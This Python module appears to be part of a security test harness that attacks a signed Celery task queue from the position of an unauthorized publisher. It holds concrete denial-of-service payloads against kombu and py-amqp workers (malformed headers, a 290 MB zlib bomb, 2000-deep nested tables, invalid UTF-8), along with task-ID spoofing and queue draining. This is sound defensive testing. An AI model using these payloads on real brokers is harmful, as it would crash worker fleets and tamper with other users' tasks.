"""Attacks by someone who may publish to the application's queue and holds no signing key.

That is any caller's broker account once it is stolen, or a broker whose permissions were left open. Nothing here was
signed by anyone who is trusted, so nothing here may be acted on; and a worker that stops because of it is an outage
that anyone can cause, for the broker hands the message to the next worker.
"""

from __future__ import annotations

import zlib
from typing import cast

from stack import StackFailed

from .attack import PUBLISH, RABBITMQ, REDIS, WORKER, attack
from .target import Target, within
from .wire import Message, Redis

TEXT = "application/text"
"""kombu decodes it whatever `accept_content` says."""


def to_pay(target: Target, body: bytes = b"abc", content_type: str = TEXT) -> Message:
    """An unsigned message to a real task. Three characters of text pass for args, kwargs and embed."""
    return next(target.unsigned("attacks.pay", 1)).with_body(body, content_type)


@attack("F6.1", "Stop the fleet: text for a body", control="INT-1", assumes=PUBLISH)
def text_body(target: Target) -> str | None:
    target.inject(to_pay(target, b"1"))
    return target.outage()


@attack("F6.2", "Stop the fleet: an empty body", control="INT-1", assumes=PUBLISH)
def empty_body(target: Target) -> str | None:
    target.inject(to_pay(target, b"", "application/data"))
    return target.outage()


@attack("F6.3", "Stop the fleet: no task id", control="INT-1", assumes=PUBLISH)
def no_id(target: Target) -> str | None:
    target.inject(to_pay(target).without_headers("id"))
    return target.outage()


@attack("F6.4", "Stop the fleet: a table for a task name", control="INT-1", assumes=PUBLISH)
def name_is_a_table(target: Target) -> str | None:
    target.inject(to_pay(target).with_headers(task={"name": "attacks.pay"}))
    return target.outage()


@attack("F6.5", "Stop the fleet: three time limits", control="INT-1", assumes=PUBLISH)
def three_time_limits(target: Target) -> str | None:
    target.inject(to_pay(target).with_headers(timelimit=[1, 2, 3]))
    return target.outage()


@attack("F6.6", "Stop the fleet: a list for a task id", control="INT-1", assumes=PUBLISH)
def id_is_a_list(target: Target) -> str | None:
    target.inject(to_pay(target).with_headers(id=["1"]))
    return target.outage()


@attack("F7", "Fill the memory: 290 KB made of 290 MB", control="SER-3", assumes=PUBLISH)
def bomb(target: Target) -> str | None:
    """kombu unpacks in the constructor of its message, before anyone is asked."""
    before = target.peak_memory()
    packer = zlib.compressobj(9)
    block = bytes(2**20)
    body = b"".join([*(packer.compress(block) for _ in range(290)), packer.flush()])
    target.inject(to_pay(target, body, "application/data").with_headers(compression="application/x-gzip"))
    outage = target.outage()
    grown = (target.peak_memory() - before) // 2**20 if target.worker.alive() else 0
    return f"{len(body) // 1000} KB made the worker grow by {grown} MB" if grown > 100 else outage


@attack("F8", "Fail another caller's pending task", control="AUT-6", assumes=PUBLISH)
def fail_the_pending(target: Target) -> str | None:
    """The worker stores NotRegistered under whatever id the message names."""
    victim = target.capture("attacks.pay", 7)
    for message in target.unsigned("attacks.no-such-task", 7):
        target.inject(message.with_headers(id=victim.task_id, task="attacks.no-such-task"))
    target.settle()
    state = target.state(victim.task_id)
    return f"the caller is told {state} of a task that never ran" if state != "PENDING" else None


@attack("F11.1", "Lose an altered message without a trace", control="AUT-5", assumes=PUBLISH)
def lost_alteration(target: Target) -> str | None:
    message = target.capture("attacks.pay", 1)
    target.inject(message.with_body(message.body[:-9] + b"A" * 9))
    return target.lost()


@attack("F11.2", "Lose a message of an unknown signer", control="AUT-5", assumes=PUBLISH)
def lost_stranger(target: Target) -> str | None:
    """What happens to all of a caller's messages when its new certificate has not reached the workers."""
    target.inject(target.signed("stranger", "attacks.pay", 1))
    return target.lost()


@attack("X20", "Lose what is not even a task message", control="INT-1", assumes=PUBLISH)
def lost_garbage(target: Target) -> str | None:
    message = to_pay(target)
    for body, content_type in (
        (b"garbage", TEXT),
        (b"[1]", TEXT),
        (b"7", "application/json"),
        (b"", "application/data"),
    ):
        target.inject(message.with_body(body, content_type).with_properties(application_headers=None))
    target.inject(Message(b"", {}, message.exchange, message.routing_key))
    target.inject(message.with_headers(eta=[1]))
    return target.lost()


@attack("F18", "Stop the fleet: a header dated 2^62", control="INT-1", assumes=PUBLISH, only=RABBITMQ)
def header_from_the_future(target: Target) -> str | None:
    """py-amqp's OSError passes for a lost connection: reconnect, the same message again, for ever."""
    message = to_pay(target).with_headers(when=2**62)
    target.inject(message.rewritten(lambda raw: raw.replace(b"\x04whenL", b"\x04whenT")))
    return target.outage()


@attack("F19", "Lose a message packed in an unknown way", control="INT-1", assumes=PUBLISH)
def lost_compression(target: Target) -> str | None:
    target.inject(to_pay(target).with_headers(compression="klingon"))
    return target.lost()


@attack("X1", "Stop the fleet: bytes that are no UTF-8", control="INT-1", assumes=PUBLISH, only=RABBITMQ)
def not_utf8(target: Target) -> str | None:
    """py-amqp decodes short strings strictly, below anything that Celery could catch."""
    message = to_pay(target).with_properties(correlation_id="AAAA")
    target.inject(message.rewritten(lambda raw: raw.replace(b"AAAA", b"\xff\xff\xff\xff")))
    return target.outage()


@attack("X2", "Stop the fleet: a table 2000 tables deep", control="INT-1", assumes=PUBLISH, only=RABBITMQ)
def deep_table(target: Target) -> str | None:
    """py-amqp reads nested tables by recursion."""
    nested = b""
    for _ in range(2000):
        nested = b"\x01aF" + len(nested).to_bytes(4, "big") + nested
    # A long string and a table differ by one letter on the wire: send the one, then make it the other.
    message = to_pay(target).with_headers(deep=nested)
    target.inject(message.rewritten(lambda raw: raw.replace(b"\x04deepS", b"\x04deepF")))
    return target.outage()


@attack("X3", "Stop the fleet: an ETA before the year one", control="INT-1", assumes=PUBLISH)
def before_time(target: Target) -> str | None:
    """The conversion to UTC overflows in the consumer."""
    target.inject(to_pay(target).with_headers(eta="0001-01-01T00:00:00+14:00"))
    return target.outage()


@attack(
    "X4",
    "Have a task run that nobody signed",
    control="SIG-1",
    assumes=PUBLISH,
    withstood="its workers take nothing but what is signed",
)
def unsigned(target: Target) -> str | None:
    """On ours also as an envelope with the algorithm `none`, or with a MAC keyed with the public certificate."""
    for message in target.unsigned("attacks.pay", 1):
        target.inject(message)
    target.settle()
    return "an unsigned payment was made" if target.ran("pay") else None


@attack(
    "X5",
    "Sign with a certificate of one's own making",
    control="SIG-6",
    assumes=PUBLISH,
    withstood="a signer has to be in its certificate store",
)
def own_certificate(target: Target) -> str | None:
    """On ours it carries the very SPIFFE ID of the client."""
    target.inject(target.signed("stranger", "attacks.pay", 1))
    target.settle()
    return "a stranger's payment was made" if target.ran("pay") else None


@attack(
    "X6",
    "Sign in the name of another's certificate",
    control="SIG-6",
    assumes=PUBLISH,
    withstood="the signature does not fit the certificate",
)
def another_certificate(target: Target) -> str | None:
    """Own key, the client's certificate: alone, beside one's own, or left out for the verifier to find."""
    for message in target.misattributed("attacks.pay", 1):
        target.inject(message)
    target.settle()
    return "a stranger's payment was made" if target.ran("pay") else None


@attack("X21", "Take others' messages off the queue", control="BRK-1", assumes=PUBLISH)
def stolen(target: Target) -> str | None:
    target.app.tasks["attacks.pay"].apply_async((7,), queue=target.other_queue)
    try:
        # Stock publishes without waiting for the broker.
        taken = within(2.0, lambda: target.attacker.drain(target.other_queue))
    except PermissionError:
        target.forbidden += 1
        return None
    return "another caller's payment was read, and is gone" if taken else None


# -- on Redis, where a message is what somebody pushed ----------------------------------------------------------------


def end_by(target: Target, item: bytes) -> str | None:
    """Push an item that kombu reads before any code of Celery's has a say."""
    target.inject(to_pay(target).rewritten(lambda _: item))
    return target.outage()


@attack("F17.1", "Stop the fleet: a pushed word", control="INT-1", assumes=PUBLISH, only=REDIS)
def pushed_word(target: Target) -> str | None:
    return end_by(target, b"garbage")


@attack("F17.2", "Stop the fleet: a pushed list", control="INT-1", assumes=PUBLISH, only=REDIS)
def pushed_list(target: Target) -> str | None:
    return end_by(target, b"[1]")


@attack("F17.3", "Stop the fleet: headers that are a list", control="INT-1", assumes=PUBLISH, only=REDIS)
def headers_are_a_list(target: Target) -> str | None:
    target.inject(to_pay(target).with_properties(application_headers=[1]))
    return target.outage()


@attack("F17.4", "Stop the fleet: a body that is a number", control="INT-1", assumes=PUBLISH, only=REDIS)
def body_is_a_number(target: Target) -> str | None:
    return end_by(target, b'{"body": 1, "headers": {}, "properties": {"delivery_tag": "1", "body_encoding": "base64"}}')


@attack("F17.5", "Stop the fleet: 5000 lists in each other", control="SER-3", assumes=PUBLISH, only=REDIS)
def deep_list(target: Target) -> str | None:
    return end_by(target, b"[" * 5000 + b"]" * 5000)


@attack("X22", "Keep workers from starting: a broken entry", control="INT-1", assumes=WORKER, only=REDIS)
def broken_entry(target: Target) -> str | None:
    """What workers hold is in Redis, and a worker that starts gives back what others held too long."""
    wire = cast("Redis", target.colleague())
    wire.hold("garbage")
    try:
        target.start_worker(f"second-{target.name}").stop()
    except StackFailed:
        target.restart()  # forgets what is held
        return "what another worker is said to hold ends every worker that starts"
    return target.outage()
